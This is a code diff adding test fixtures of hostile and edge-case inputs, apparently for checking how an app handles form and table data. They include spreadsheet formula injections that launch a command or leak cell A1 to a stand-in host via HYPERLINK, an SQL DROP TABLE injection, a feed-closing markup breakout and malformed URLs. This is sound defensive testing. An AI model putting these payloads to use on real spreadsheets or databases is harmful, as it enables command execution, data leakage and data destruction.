@@ -45,3 +45,42 @@ PAYLOADS: dict[str, str] = {
     "blank": " \t\u3000\u00a0\n\n ",
     "lines": "一\n\n\n二\r\n三\r四\n" * 50,
 }
+
+# What does no harm to a page and may harm the data: formulas, separators, queries, figures that tables change.
+DATA_PAYLOADS: dict[str, str] = PAYLOADS | {
+    "formula": "=HYPERLINK(\"http://a.test/?\"&A1,\"x\")",
+    "formula-plus": "+cmd|' /C calc'!A0",
+    "formula-minus": "-2+3+cmd|' /C calc'!A0",
+    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula-tab": "\t=1+1",
+    "formula-break": "\r\n=1+1",
+    "formula-wide": "＝１＋１",
+    "formula-apostrophe": "'=1+1",
+    "separators": "甲^乙＾丙,\"丁\";戊|己\t庚\r\n\"\",\"",
+    "line-ends": "甲\x0b乙\x0c丙\x1c丁\x1d戊\x1e己\x85庚\u2028辛\u2029壬",
+    "query": "'); DROP TABLE items; --",
+    "search": "\"甲\" OR * NEAR(乙 丙) name:丁 -戊 ^己 {a b}:c",
+    "spelled": "<U+200B><U+003C>",
+    "figure": "1.10",
+    "figure-of-days": "3-5",
+    "figure-of-powers": "12E3",
+    "figure-of-many-digits": "000131000000000000000",
+    "pointer": "a/b~c~0~1%2F",
+    "closing": "]]></summary></entry></feed>",
+    "surrogates": "𠮷𠮷𠮷\U0002fa1d",
+}
+# Addresses of the web as people copy them, and as nobody should.
+LINKS: dict[str, str] = {
+    "characters": "https://a.test/<b>\"{}|\\^`x",
+    "percent": "https://a.test/%zz?%=%&x=%2",
+    "hanzi": "https://例子.测试/办事指南?事项=居住证#材料",
+    "brackets": "http://[::1/x]#a#b",
+    "no-host": "https:///x",
+    "port": "https://a.test:99999999/",
+    "user": "https://用户:密码@a.test/",
+    "controls": "https://a.test/\u0001\u200b\u202ex",
+    "spaces": "https://a.test/a b\u3000c",
+    "long": "https://a.test/" + "x" * 4000,
+}
+# A file that an item names, and that stands beside it.
+FILE_NAME = "样表 a#b?c%20d&'e'\u3000<b>.pdf"
